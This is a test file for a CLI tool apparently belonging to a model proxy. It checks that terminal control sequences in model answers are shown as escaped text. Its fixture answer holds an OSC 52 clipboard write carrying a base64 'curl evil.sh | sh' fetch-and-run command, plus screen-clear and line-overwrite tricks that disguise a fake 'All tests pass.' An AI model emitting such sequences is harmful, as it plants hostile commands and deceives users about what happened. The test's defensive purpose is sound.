import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AgentSessionPage } from '../../../../proxy/contracts/agentSessions.ts';
import { terminalText } from '../../../../proxy/core/terminalText.ts';
import { runAirlock } from '../../../support/cliHarness.ts';
import { startControlHarness, type ControlHarness } from '../../../support/controlHarness.ts';
import { chat, setUpProfile } from '../export/exportSetup.ts';

/**
 * What a terminal acts on instead of printing (ECMA-48): OSC 52 writes the clipboard, CSI 2J
 * clears the screen, a lone CR returns to the line's start to overwrite it, BEL rings. A model can
 * be led by a prompt injection to answer with them, and a gateway's error message is its own text.
 */
const CLIPBOARD_WRITE = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const CLEAR_SCREEN = '\u001b[2J';
const EIGHT_BIT_CSI = '\u009b2J';
const ANSWER = `Done.${CLIPBOARD_WRITE}${CLEAR_SCREEN} All tests pass.\rOverwritten${EIGHT_BIT_CSI}\r\nNext line`;

let harness: ControlHarness;
let sessionId = '';
let requestId = '';

beforeAll(async () => {
  harness = await startControlHarness();
  const token = await setUpProfile(harness, 'terminal-agent');
  harness.simulator.script({ kind: 'reply', content: ANSWER });
  const reply = await chat(harness, token, { messages: [{ role: 'user', content: `Run the tests${CLEAR_SCREEN}` }] });
  expect(reply.status).toBe(200);
  requestId = String(reply.headers['x-airlock-request-id']);
  await harness.log.flush();
  const page = (await harness.json<AgentSessionPage>('/agent-sessions')) as AgentSessionPage;
  sessionId = page.items[0]?.id ?? '';
});
afterAll(async () => {
  await harness?.close();
});

describe('the CLI prints what clients and models wrote as text, never as terminal controls', () => {
  it('airlock sessions <id>: the answer and the prompt with their controls shown', async () => {
    const run = await runAirlock(harness.dataDir, harness.secrets, ['sessions', sessionId]);
    expect(run.exitCode, run.stderr).toBe(0);
    expect(run.stdout).toContain('Done.');
    expect(terminalText(run.stdout), 'the output holds a terminal control').toBe(run.stdout);
    // The timeline shows an answer's first line: a CR before LF ends it, a lone CR is shown.
    expect(run.stdout).toContain(
      String.raw`= assistant: Done.\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J All tests pass.\u000dOverwritten\u009b2J (+1 lines)`,
    );
    expect(run.stdout).toContain(String.raw`+ user: Run the tests\u001b[2J`);
  });

  it('airlock request <id> --json stays JSON that reads back as the same texts', async () => {
    const run = await runAirlock(harness.dataDir, harness.secrets, ['request', requestId, '--json']);
    expect(run.exitCode, run.stderr).toBe(0);
    expect(terminalText(run.stdout), 'the output holds a terminal control').toBe(run.stdout);
    expect(JSON.stringify(JSON.parse(run.stdout))).toContain('Run the tests');
  });
});
